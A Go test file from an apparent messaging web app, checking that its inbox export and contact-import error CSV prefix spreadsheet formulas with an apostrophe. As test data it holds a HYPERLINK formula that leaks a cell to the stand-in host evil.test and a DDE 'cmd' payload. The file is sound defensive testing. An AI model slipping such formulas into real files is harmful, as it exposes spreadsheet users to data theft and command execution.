package web

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"switchboard/store"
)

// TestExportsNeutraliseFormulas: a customer's text written as a spreadsheet formula reaches
// /inbox/export as text a spreadsheet will not run, and so does a column name of an uploaded
// file in the import's error CSV.
func TestExportsNeutraliseFormulas(t *testing.T) {
	e := newUIEnv(t)
	evil := `=HYPERLINK("http://evil.test/?"&B2,"x")`
	if _, err := e.st.SendMessage(e.a.ID, store.SendInput{From: e.numberA, To: []string{"+14155550123"}, Text: evil}); err != nil {
		t.Fatal(err)
	}
	c := e.signIn(t, e.mo)
	day := e.st.Now().In(workspaceLocation(e.a)).Format("2006-01-02")
	res, body := e.send(t, c, "GET", "/inbox/export?from="+day+"&to="+day, nil)
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if res.StatusCode != http.StatusOK || err != nil || len(rows) != 2 {
		t.Fatalf("inbox export: %d %q %v", res.StatusCode, rows, err)
	}
	if rows[1][6] != "'"+evil || rows[1][5] != "+14155550123" {
		t.Fatalf("exported text %q, to %q; want the formula behind an apostrophe and the number as it is", rows[1][6], rows[1][5])
	}

	if _, err := e.st.AddProperty(e.a.ID, "seats", store.PropertyNumber); err != nil {
		t.Fatal(err)
	}
	file := "phone,\"-2+3+cmd|' /C calc'!A0\"\n+14155550124,many\n"
	res, _ = e.upload(t, c, "bad.csv", []byte(file))
	loc := wantRedirect(t, res, "/contacts/import/jobs/")
	res, _ = e.send(t, c, "POST", loc, url.Values{"col.0": {"phone"}, "col.1": {"property:seats"}, "action": {"start"}})
	wantRedirect(t, res, loc)
	id := strings.TrimPrefix(loc, "/contacts/import/jobs/")
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		j, err := e.st.ImportJobByID(e.a.ID, id)
		if err != nil {
			t.Fatal(err)
		}
		if j.Status != store.ImportRunning || time.Now().After(deadline) {
			break
		}
	}
	_, body = e.send(t, c, "GET", loc+"/errors.csv", nil)
	rows, err = csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][1] != "'-2+3+cmd|' /C calc'!A0" {
		t.Fatalf("error CSV %q (%v): want the column's name behind an apostrophe", rows, err)
	}
}
